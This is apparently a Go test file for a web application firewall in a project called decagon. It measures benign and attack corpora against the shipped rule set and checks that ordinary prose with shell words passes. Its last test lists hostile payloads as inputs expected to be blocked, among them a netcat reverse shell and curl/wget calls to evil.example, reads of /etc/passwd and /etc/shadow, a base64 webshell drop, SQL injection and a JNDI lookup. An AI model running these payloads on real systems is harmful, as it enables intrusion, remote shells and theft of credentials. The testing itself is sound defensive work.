package waf

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"sort"
	"strings"
	"testing"

	"github.com/decagon/decagon/internal/topology"
)

// readCorpus reads a testdata file: one entry a line, "#:" lines and blank lines skipped.
func readCorpus(t *testing.T, name string) []string {
	t.Helper()
	f, err := os.Open("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if l := sc.Text(); l != "" && !strings.HasPrefix(l, "#:") {
			out = append(out, l)
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

const (
	corpusToken = "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ1c2VyLTEiLCJ0b2tlbl91c2UiOiJpZCIsImF1ZCI6ImRlY2Fnb24ifQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtX18tLQ"
	corpusID    = "0b9e6a52-8f0c-4b43-9d5c-6d1f1d1c2a10"
)

// jsonString encodes s as a JSON string.
func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// benignRequests places each benign text in the shapes real clients send it.
func benignRequests(texts []string) []request {
	auth := map[string]string{"Authorization": corpusToken}
	var out []request
	for _, s := range texts {
		name := s
		if r := []rune(name); len(r) > 200 {
			name = string(r[:200])
		}
		out = append(out,
			request{method: "POST", target: "/test", contentType: "application/json", header: auth,
				body: `{"name":` + jsonString(name) + `,"data":{"note":` + jsonString(s) + `,"tags":["a","b"],"n":3}}`},
			request{method: "POST", target: "/upload?filename=" + url.QueryEscape(s+".txt"), contentType: "application/octet-stream", header: auth, body: "plain bytes"},
			request{target: "/test?limit=20", header: map[string]string{"Authorization": corpusToken,
				"Referer": "https://app.example.com/search?q=" + url.QueryEscape(s)}},
			request{method: "POST", target: "/upload/presign", contentType: "application/json; charset=utf-8", header: auth,
				body: `{"filename":` + jsonString(s+".pdf") + `,"content_type":"application/pdf","size":1048576}`},
			// A path segment (the stage answers 400 or 404 to it) and a header of the client's own.
			request{target: "/upload/" + url.PathEscape(s), header: auth},
			request{target: "/test?limit=5", header: map[string]string{"Authorization": corpusToken, "X-Client-Note": headerSafe(s)}},
			// A form body, which POST /test does not declare: the WAF reads it as AWS WAF does
			// before the stage answers 415.
			request{method: "POST", target: "/test", contentType: "application/x-www-form-urlencoded", header: auth, body: "note=" + url.QueryEscape(s)},
		)
	}
	return out
}

// headerSafe is s as a header value: control characters (none in the corpus's lines) out.
func headerSafe(s string) string {
	return strings.Map(func(r rune) rune {
		if r < 0x20 || r == 0x7f {
			return ' '
		}
		return r
	}, s)
}

// TestBenignCorpus: every benign text in every shape passes the shipped configuration.
func TestBenignCorpus(t *testing.T) {
	reqs := benignRequests(readCorpus(t, "benign.txt"))
	if len(reqs) < 300 {
		t.Fatalf("%d benign requests, want at least 300", len(reqs))
	}
	s := newStack(t, Config{WAF: shippedWAF(t)})
	blocked := 0
	for i, rq := range reqs {
		rq.remote = fmt.Sprintf("198.51.100.%d:1234", i%250) // below the rate-based rule
		if rec := s.do(t, rq); rec.Code != http.StatusOK {
			blocked++
			recs := s.logs.records(t)
			t.Errorf("%s %s %.120q: status %d: %v", methodOf(rq), rq.target, rq.body, rec.Code, recs[len(recs)-1]["reason"])
		}
	}
	t.Logf("benign corpus: %d requests, %d blocked", len(reqs), blocked)
}

// attackRequests places each attack in a query parameter (plain, URL-encoded twice, base64),
// a JSON body, a header, a form body and a text body (types POST /test does not declare: in
// AWS the WAF reads them before the stage answers 415, operations.go) and the path.
func attackRequests(t *testing.T) (reqs []request, cats []string) {
	for _, line := range readCorpus(t, "attacks.txt") {
		cat, p, ok := strings.Cut(line, "\t")
		if !ok {
			t.Fatalf("attacks.txt: no tab in %q", line)
		}
		p = strings.NewReplacer(`\r`, "\r", `\n`, "\n").Replace(p)
		auth := map[string]string{"Authorization": corpusToken}
		header := strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(p)
		add := func(rq request) { reqs, cats = append(reqs, rq), append(cats, cat) }
		add(request{target: "/test?cursor=" + url.QueryEscape(p), header: auth})
		add(request{target: "/test?cursor=" + url.QueryEscape(url.QueryEscape(p)), header: auth})
		add(request{target: "/test?cursor=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(p))), header: auth})
		add(request{method: "POST", target: "/test", contentType: "application/json", header: auth,
			body: `{"name":"report","data":{"q":` + jsonString(p) + `}}`})
		add(request{target: "/test", header: map[string]string{"Authorization": corpusToken, "X-Search": header}})
		add(request{method: "POST", target: "/test", contentType: "application/x-www-form-urlencoded", header: auth, body: "q=" + url.QueryEscape(p)})
		add(request{method: "POST", target: "/test", contentType: "text/plain", header: auth, body: p})
		add(request{target: "/upload/" + url.PathEscape(p), header: auth})
	}
	return reqs, cats
}

// ownRuleIDs are the IDs of api-rules.conf.
var ownRuleIDs = []int{10201, 10202, 10210, 10220, 10221, 10222, 10230, 10240, 10250, 10260, 10262, 10270, 10271, 10272, 10280, 10281, 10282, 10290, 10291, 10292, 10293, 10294}

// TestAttackCorpus reports the share of the attack corpus refused by the shipped
// configuration, with decagon's own rules (api-rules.conf) and without them, per category.
func TestAttackCorpus(t *testing.T) {
	reqs, cats := attackRequests(t)
	if len(reqs) < 200 {
		t.Fatalf("%d attack requests, want at least 200", len(reqs))
	}
	without := Config{WAF: shippedWAF(t), crsValueTargets: true}
	// CRS PL1 as it ran before decagon's rules: none of api-rules.conf, and argument values not
	// taken out of CRS's command-word rules (valueTargets).
	without.Exclusions = append(without.Exclusions, topology.Exclusion{IDs: ownRuleIDs, Reason: "measure CRS alone"})
	rate := func(cfg Config) (float64, map[string][2]int) {
		s := newStack(t, cfg)
		per := map[string][2]int{}
		n := 0
		for i, rq := range reqs {
			rq.remote = fmt.Sprintf("203.0.113.%d:1234", i%250)
			c := per[cats[i]]
			c[1]++
			if s.do(t, rq).Code == http.StatusForbidden {
				n++
				c[0]++
			}
			per[cats[i]] = c
		}
		return float64(n) / float64(len(reqs)), per
	}
	before, perBefore := rate(without)
	after, perAfter := rate(Config{WAF: shippedWAF(t)})
	t.Logf("attack corpus: %d requests; refused: CRS PL1 alone %.1f %%, with decagon's rules %.1f %%", len(reqs), 100*before, 100*after)
	var names []string
	for c := range perAfter {
		names = append(names, c)
	}
	sort.Strings(names)
	for _, c := range names {
		b, a := perBefore[c], perAfter[c]
		t.Logf("  %-6s %3d requests: %5.1f %% → %5.1f %%", c, a[1], 100*float64(b[0])/float64(b[1]), 100*float64(a[0])/float64(a[1]))
	}
	if after < 0.85 || after <= before {
		t.Errorf("refused %.1f %% (CRS alone %.1f %%): want at least 85 %% and more than CRS alone", 100*after, 100*before)
	}
}

// TestKnownFalsePositives reports how many shapes of each known CRS false positive
// (testdata/benign-crs-fp.txt) are still refused; it fails only when one is no longer
// refused anywhere, so that the text moves back to benign.txt.
func TestKnownFalsePositives(t *testing.T) {
	s := newStack(t, Config{WAF: shippedWAF(t)})
	for _, text := range readCorpus(t, "benign-crs-fp.txt") {
		blocked := 0
		for i, rq := range benignRequests([]string{text}) {
			rq.remote = fmt.Sprintf("198.51.100.%d:1234", i)
			if s.do(t, rq).Code != http.StatusOK {
				blocked++
			}
		}
		t.Logf("%q: %d of %d shapes refused", text, blocked, len(benignRequests([]string{text})))
		if blocked == 0 {
			t.Errorf("%q passes now: move it to benign.txt", text)
		}
	}
}

// TestProseInValues: prose and code snippets that CRS's command-word, code-name and
// UNION...SELECT rules refuse pass as argument values (a JSON value, a query parameter, a form
// field), which valueTargets (rules.go) takes out of those rules; an attack in the same places
// is still refused by the rules that replace them.
func TestProseInValues(t *testing.T) {
	s := newStack(t, Config{WAF: shippedWAF(t)})
	shapes := func(v string) []request {
		return []request{
			{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"note":` + jsonString(v) + `}}`},
			{target: "/test?q=" + url.QueryEscape(v)},
			{method: "POST", target: "/upload?filename=" + url.QueryEscape(v), contentType: "application/octet-stream", body: "plain bytes"},
			{method: "POST", target: "/test", contentType: "application/x-www-form-urlencoded", body: "note=" + url.QueryEscape(v)},
		}
	}
	n := 0
	for _, text := range []string{
		"In bash, use ls -la | grep foo to filter", "cat file.txt | wc -l counts the lines",
		"The shell script printed /usr/bin/env python3", "Files live under /etc/app/config.yaml on the server",
		"See C:\\Program Files\\App\\app.exe", "The function exec() runs a command", "wget and curl are both download tools",
		"Set the variable $HOME to your home folder", "Use `sudo systemctl restart nginx` to restart", "Grep is handy; so is sed",
		"The price is ${price} in the template", `console.log("hi"); alert is not needed`, "The function eval() is dangerous in JS",
		`return res.status(404).json({ error: "not found" });`, `document.getElementById("app").innerHTML = html;`,
		"The regex ^[a-z0-9_-]{3,16}$ validates usernames", `import os; os.getenv("HOME")`, "The union will select its leaders",
		"Union members will select a new chair", "const x = arr.map(v => v * 2);", "Hello {{ user.name }}, welcome back",
		"sudo apt-get install -y postgresql", "echo $PATH", "ls -la /var/log", "docker run -p 8080:80 nginx",
	} {
		for i, rq := range shapes(text) {
			n++
			rq.remote = fmt.Sprintf("198.51.100.%d:1", n%250)
			if rec := s.do(t, rq); rec.Code != http.StatusOK {
				recs := s.logs.records(t)
				t.Errorf("%q in shape %d: status %d: %v", text, i, rec.Code, recs[len(recs)-1]["reason"])
			}
		}
	}
	for _, attack := range []string{"; cat /etc/passwd", "| nc -e /bin/sh evil.example 4444", "$(curl http://evil.example/x)", "`id`", "../../../etc/shadow", "&& wget http://evil.example/a -O /tmp/a",
		"system('id')", "eval(atob('YWxlcnQoMSk='))", "1 UNION SELECT password FROM users", "${jndi:ldap://evil.example/a}", "{{7*7}}",
		";echo${IFS}pwned", ";id>/tmp/x", ";echo PD9waHA= | base64 -d > /var/www/x.php", ";chmod +x /tmp/x; /tmp/x", "a|net user"} {
		for i, rq := range shapes(attack) {
			n++
			rq.remote = fmt.Sprintf("203.0.113.%d:1", n%250)
			if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
				t.Errorf("%q in shape %d: status %d, want 403", attack, i, rec.Code)
			}
		}
	}
}
